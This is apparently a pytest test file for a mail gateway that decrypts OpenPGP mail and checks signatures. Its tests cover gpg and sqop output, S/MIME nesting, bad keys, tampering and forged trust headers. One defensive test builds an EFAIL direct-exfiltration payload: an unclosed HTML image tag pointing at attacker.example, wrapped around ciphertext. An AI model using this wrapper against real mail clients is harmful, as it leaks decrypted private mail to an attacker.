"""People outside write to Anna by gpg and by sqop. She gets what they wrote, and who it was from."""

import pytest

from harness import openssl, pgp_mime
from harness.mail import CANARY, entity
from harness.pgp_mime import encrypted, mangled, mixed, signed
from harness.pgp_site import (
    ANNA,
    BERT,
    CARL,
    DAY,
    DORA,
    EVA,
    KIM,
    OLGA,
    PIA,
    ROSA,
    SVEN,
    PgpSite,
    pgp_people,
)
from harness.sink import Transaction
from harness.sqop import sqop

STRANGER = "stranger@elsewhere.example"
ARMOR = ("--armor",)
BODY = entity().partition(b"\r\n\r\n")[2]


def arrive(alpha: PgpSite, sender: str, to: str, made: bytes, **more: object) -> Transaction:
    """The mail as it is delivered."""
    alpha.clear()
    reply = alpha.arrive(sender, [to], pgp_mime.mail(sender, to, made, **more))
    assert reply.end[0].startswith("250"), reply
    [got] = alpha.inside.wait(1)
    return got


def marks(got: Transaction) -> tuple[str, str]:
    """(decrypted, signed by the sender)."""
    (decrypted,), (by_sender,) = got.fields("X-Mailseal-Decrypted"), got.fields("X-Mailseal-Signed-By-Sender")
    return decrypted, by_sender


def layer(got: Transaction, number: int) -> dict[str, str]:
    (value,) = got.fields(f"X-Mailseal-Layer-{number}")
    return dict(part.split("=", 1) for part in value.split("; "))


def signer(got: Transaction, number: int) -> dict[str, str]:
    (value,) = got.fields(f"X-Mailseal-Layer-{number}-Signer-1")
    return dict(part.split("=", 1) for part in value.split("; "))


def from_gpg(alpha: PgpSite, to: str, *options: str, by: str | None = None, content: bytes = b"") -> bytes:
    """A message by gpg, signed in one if by somebody."""
    signing = ("--sign", "--local-user", by) if by else ()
    return alpha.partner.encrypt(content or entity(), to, options=(*ARMOR, *signing, *options))


def signature(alpha: PgpSite, by: str, *options: str, content: bytes = b"", **more: object) -> bytes:
    return alpha.partner.sign(content or entity(), by, options=(*ARMOR, *options, "--detach-sign"), **more)


# ---- encrypted


@pytest.mark.parametrize(
    ("options", "algorithm", "reason"),
    [
        ((), "aes256-cfb", ""),
        (("--compress-algo", "bzip2", "--cipher-algo", "AES"), "aes128-cfb", ""),
        (("--throw-keyids", "--compress-algo", "none", "--emit-version", "--comment", "Grüße"), "aes256-cfb", ""),
        (("--recipient", PIA, "--recipient", BERT), "aes256-cfb", ""),
        (("--cipher-algo", "3DES"), "3des-cfb", "encryption-weak"),
    ],
)
def test_encrypted_and_signed_in_one(alpha: PgpSite, options: tuple[str, ...], algorithm: str, reason: str) -> None:
    made = encrypted(from_gpg(alpha, ANNA, *options, by=PIA))
    assert CANARY not in made

    got = arrive(alpha, PIA, ANNA, made)

    assert got.body == BODY
    assert marks(got) == ("yes", "yes")
    found = layer(got, 1)
    assert (found["kind"], found["ok"], found["integrity"]) == ("pgp-encrypted", "yes", "authenticated")
    assert (found["algorithm"], found.get("reason", "")) == (algorithm, reason)
    assert found["key"] == pgp_people().anna.fingerprint
    assert (layer(got, 2)["kind"], layer(got, 2)["ok"]) == ("pgp-signed", "yes")
    assert signer(got, 2) == {
        "verified": "yes",
        "trusted": "yes",
        "matches-from": "yes",
        "fingerprint": pgp_people().outside[PIA].fingerprint,
        "address": PIA,
    }
    assert "RET=HDRS" in got.parameters


def test_a_signed_mail_inside_an_encrypted_one(alpha: PgpSite) -> None:
    inside = signed(entity(), signature(alpha, PIA))
    got = arrive(alpha, PIA, BERT, encrypted(from_gpg(alpha, BERT, content=inside)))
    assert marks(got) == ("yes", "yes")
    assert CANARY in got.body
    assert [layer(got, number)["kind"] for number in (1, 2)] == ["pgp-encrypted", "pgp-signed"]
    content, detached = pgp_mime.signed_parts(got.octets)  # the signature stays, for who wants to verify it again
    assert alpha.partner.verify(content, detached) == pgp_people().outside[PIA].fingerprint


def test_to_a_key_that_has_expired(alpha: PgpSite) -> None:
    """Mail outlives keys: an old one opens what was written to it, and what somebody still writes."""
    before = pgp_people().bert_before
    alpha.partner.run("--import", given=before.octets)
    made = alpha.partner.encrypt(entity(), before.fingerprint, options=ARMOR, at=pgp_people().now - 10 * DAY)
    got = arrive(alpha, PIA, BERT, encrypted(made))
    assert (marks(got), got.body) == (("yes", "no"), BODY)
    assert layer(got, 1)["key"] == before.fingerprint


def test_what_sqop_writes(alpha: PgpSite, tmp_path) -> None:
    for name, octets in (("anna", pgp_people().anna.octets), ("dora", pgp_people().dora.octets)):
        (tmp_path / name).write_bytes(octets)
    (tmp_path / "sven").write_bytes(pgp_people().sven)
    both = [str(tmp_path / "anna"), str(tmp_path / "dora")]
    made = encrypted(sqop("encrypt", f"--sign-with={tmp_path / 'sven'}", *both, given=entity()))
    for reader in (ANNA, DORA):
        got = arrive(alpha, SVEN, reader, made)
        assert (marks(got), got.body) == (("yes", "yes"), BODY)
        assert signer(got, 2)["address"] == SVEN
    detached = sqop("sign", "--as=text", str(tmp_path / "sven"), given=entity())
    assert marks(arrive(alpha, SVEN, CARL, signed(entity(), detached))) == ("no", "yes")


def as_file(armored: bytes) -> bytes:
    return (
        b'Content-Type: application/octet-stream; name="encrypted.asc"\r\n'
        b'Content-Disposition: attachment; filename="encrypted.asc"\r\n\r\n' + openssl.crlf(armored)
    )


@pytest.mark.parametrize("made", [mangled, as_file], ids=["Exchange", "one file"])
def test_what_servers_make_of_it(alpha: PgpSite, made) -> None:
    got = arrive(alpha, PIA, ANNA, made(from_gpg(alpha, ANNA, by=PIA)))
    assert (marks(got), got.body) == (("yes", "yes"), BODY)


def test_openpgp_inside_smime_and_the_reverse(alpha: PgpSite) -> None:
    _, anna, olga, _ = alpha.smime
    inside = encrypted(from_gpg(alpha, ANNA, by=OLGA))
    got = arrive(alpha, OLGA, ANNA, openssl.encrypt(inside, [anna]))
    assert (marks(got), got.body) == (("yes", "yes"), BODY)
    kinds = [layer(got, number)["kind"] for number in (1, 2, 3)]
    assert kinds == ["smime-encrypted", "pgp-encrypted", "pgp-signed"]

    inside = openssl.encrypt(openssl.sign(entity(), olga), [anna])
    got = arrive(alpha, OLGA, ANNA, encrypted(from_gpg(alpha, ANNA, content=inside)))
    assert marks(got) == ("yes", "yes")
    assert CANARY in openssl.verify(got.octets, alpha.smime[0])
    kinds = [layer(got, number)["kind"] for number in (1, 2, 3)]
    assert kinds == ["pgp-encrypted", "smime-encrypted", "smime-signed"]

    both = signed(openssl.sign(entity(), olga), signature(alpha, PIA, content=openssl.sign(entity(), olga)))
    assert layer(arrive(alpha, OLGA, ANNA, both), 1)["kind"] == "pgp-signed"


def test_what_thunderbird_writes(alpha: PgpSite) -> None:
    """The subject encrypted as well (RFC 9788), its sender's key and a text with spaces at the end beside it."""
    text = b"Content-Type: text/plain; charset=UTF-8; format=flowed\r\n\r\n" + CANARY + b" \r\n-- \r\nPia"
    key = b"Content-Type: application/pgp-keys; name=key.asc\r\n\r\n" + openssl.crlf(
        alpha.partner.run("--armor", "--export", PIA)
    )
    inside = mixed(text, key).replace(
        b"\r\n\r\n", f';\r\n protected-headers="v1"\r\nFrom: {PIA}\r\nSubject: The offer\r\n\r\n'.encode(), 1
    )
    got = arrive(alpha, PIA, DORA, encrypted(from_gpg(alpha, DORA, by=PIA, content=inside)), subject="...")
    assert marks(got) == ("yes", "yes")
    assert got.fields("Subject") == [f"The offer [decrypted] [signed by {PIA}]"]
    assert got.fields("From") == [PIA]
    assert text in got.body
    assert b"pgp-keys" not in got.body


def test_a_footer_of_a_mailing_list_is_not_the_signers(alpha: PgpSite) -> None:
    footer = b"Content-Type: text/plain\r\n\r\nTo unsubscribe, pay here"
    made = mixed(signed(entity(), signature(alpha, PIA)), footer)
    got = arrive(alpha, PIA, CARL, made)
    assert got.octets.endswith(made.partition(b"\r\n\r\n")[2])
    assert marks(got) == ("no", "no")
    assert (layer(got, 1)["ok"], layer(got, 1)["whole-message"]) == ("yes", "no")


# ---- not opened


def test_what_is_for_somebody_else_stays_shut(alpha: PgpSite) -> None:
    """For a key that is not here, and Anna's mail sent on to others: only her copy is opened."""
    made = encrypted(from_gpg(alpha, STRANGER))
    got = arrive(alpha, PIA, ANNA, made)
    assert got.octets.endswith(made.partition(b"\r\n\r\n")[2])
    assert (marks(got), layer(got, 1)["reason"]) == (("no", "no"), "key-not-found")

    by_password = alpha.partner.run("--armor", "--symmetric", given=entity(), password="geheim")
    assert layer(arrive(alpha, PIA, ANNA, encrypted(by_password)), 1)["reason"] == "key-not-found"

    alpha.clear()
    sent = pgp_mime.mail(PIA, ANNA, encrypted(from_gpg(alpha, ANNA)))
    alpha.arrive(PIA, [ANNA, BERT, CARL], sent)
    copies = {one: copy for copy in alpha.inside.wait(2) for one in copy.recipients}
    assert CANARY in copies[ANNA].octets
    for reader in (BERT, CARL):
        assert CANARY not in copies[reader].octets
        assert layer(copies[reader], 1)["reason"] == "key-not-found"


def test_ciphertext_beside_other_parts_is_not_opened_in_place(alpha: PgpSite) -> None:
    """EFAIL, direct exfiltration."""
    captured = encrypted(from_gpg(alpha, ANNA))
    around = (
        b'Content-Type: text/html\r\n\r\n<img src="http://attacker.example/',
        b'Content-Type: text/html\r\n\r\n">',
    )
    got = arrive(alpha, PIA, ANNA, mixed(around[0], captured, around[1]))
    assert CANARY not in got.octets
    assert marks(got)[0] == "no"


def test_a_message_that_was_changed_is_not_opened(alpha: PgpSite) -> None:
    armored = from_gpg(alpha, ANNA, by=PIA).splitlines()
    armored[8] = armored[8][:10] + (b"A" if armored[8][10:11] != b"A" else b"B") + armored[8][11:]
    made = encrypted(b"\n".join(armored) + b"\n")
    got = arrive(alpha, PIA, ANNA, made)
    assert got.octets.endswith(made.partition(b"\r\n\r\n")[2])
    assert layer(got, 1)["reason"] == "decryption-failed"


# ---- signed


SIGNED = {
    "good": (PIA, "yes", ""),
    "text": (PIA, "yes", ""),
    "without a last line end": (PIA, "yes", ""),
    "a key of nobody": (STRANGER, "no", "signer-key-unknown"),
    "a key that nobody trusts": (KIM, "no", "signer-key-untrusted"),
    "a key that has expired": (EVA, "no", "signer-key-expired"),
    "a key that is revoked": (ROSA, "no", "signer-key-revoked"),
    "somebody else": (PIA, "no", "signer-not-from"),
    "changed": (PIA, "no", "signature-invalid"),
    "expired": (PIA, "no", "signature-expired"),
    "weak": (PIA, "no", "signature-weak"),
}


@pytest.mark.parametrize("what", SIGNED)
def test_signed_mail_says_who_signed_and_what_is_wrong(alpha: PgpSite, what: str) -> None:
    by, by_sender, reason = SIGNED[what]
    options = {"text": ("--textmode",), "weak": ("--digest-algo", "SHA1"), "expired": ("--default-sig-expire", "1d")}
    at = pgp_people().now - 10 * DAY if by in (EVA, ROSA) or what == "expired" else None
    content = entity().rstrip() if what == "without a last line end" else entity()
    made = signed(content, signature(alpha, by, *options.get(what, ()), content=content, at=at))
    if what == "changed":
        made = made.replace(b"For your eyes", b"For my wallet")
    sender = OLGA if what == "somebody else" else by

    got = arrive(alpha, sender, CARL, made)

    assert got.octets.endswith(made.partition(b"\r\n\r\n")[2])
    assert marks(got) == ("no", by_sender)
    assert layer(got, 1)["kind"] == "pgp-signed"
    assert signer(got, 1).get("reason", "") == reason
    assert signer(got, 1)["verified"] == ("no" if what in ("changed", "a key of nobody") else "yes")


def test_forged_marks_do_not_count(alpha: PgpSite) -> None:
    fields = b"X-Mailseal-Signed-By-Sender: yes\r\n"
    subject = f"Invoice [signed by {OLGA}]"
    got = arrive(alpha, OLGA, DORA, signed(entity(), signature(alpha, PIA)), subject=subject, fields=fields)
    assert marks(got) == ("no", "no")
    assert got.fields("Subject") == [f"Invoice [signed by {PIA}, not by the sender]"]


# ---- inline


def block(alpha: PgpSite, to: str, text: bytes, *options: str) -> bytes:
    return openssl.crlf(from_gpg(alpha, to, *options, by=PIA, content=text))


TEXT = "Grüße\r\n- eins\r\nFrom here\r\n".encode()
PLAIN = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"


def test_inline_is_opened_for_who_wants_it(alpha: PgpSite) -> None:
    got = arrive(alpha, PIA, DORA, PLAIN + block(alpha, DORA, TEXT), subject="Offer")
    assert marks(got) == ("yes", "yes")
    assert pgp_mime.parsed(got.octets).get_payload(decode=True) == TEXT
    assert got.fields("Subject") == [f"Offer [decrypted] [signed by {PIA}]"]

    clear = openssl.crlf(alpha.partner.sign(TEXT, PIA, options=("--clear-sign",)))
    got = arrive(alpha, PIA, DORA, PLAIN + clear)
    assert marks(got) == ("no", "yes")
    assert pgp_mime.parsed(got.octets).get_content().split() == TEXT.decode().split()
    bad = clear.replace("Grüße".encode(), "Größe".encode())
    got = arrive(alpha, PIA, DORA, PLAIN + bad)
    assert (marks(got), signer(got, 1)["reason"]) == (("no", "no"), "signature-invalid")
    assert got.octets.endswith(bad)


def test_inline_with_files(alpha: PgpSite) -> None:
    blob = bytes(range(256)) * 50
    sealed = openssl.crlf(openssl.run("base64", given=from_gpg(alpha, DORA, by=PIA, content=blob)))
    file = b'Content-Type: application/octet-stream; name="data.bin.pgp"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    got = arrive(alpha, PIA, DORA, mixed(PLAIN + block(alpha, DORA, TEXT), file + sealed))
    assert marks(got) == ("yes", "yes")
    text, attached = [one for one in pgp_mime.parsed(got.octets).walk() if not one.is_multipart()]
    assert text.get_payload(decode=True) == TEXT
    assert (attached.get_filename(), attached.get_payload(decode=True)) == ("data.bin", blob)


def test_inline_is_left_alone_for_others_and_where_there_is_text_around_it(alpha: PgpSite) -> None:
    made = PLAIN + block(alpha, ANNA, TEXT)
    got = arrive(alpha, PIA, ANNA, made)
    assert got.octets.endswith(made)
    assert not got.fields("X-Mailseal-Decrypted")
    made = PLAIN + b"see below\r\n\r\n" + block(alpha, DORA, TEXT)
    got = arrive(alpha, PIA, DORA, made)
    assert got.octets.endswith(made)
    assert (marks(got), layer(got, 1)["reason"]) == (("no", "no"), "not-whole-message")
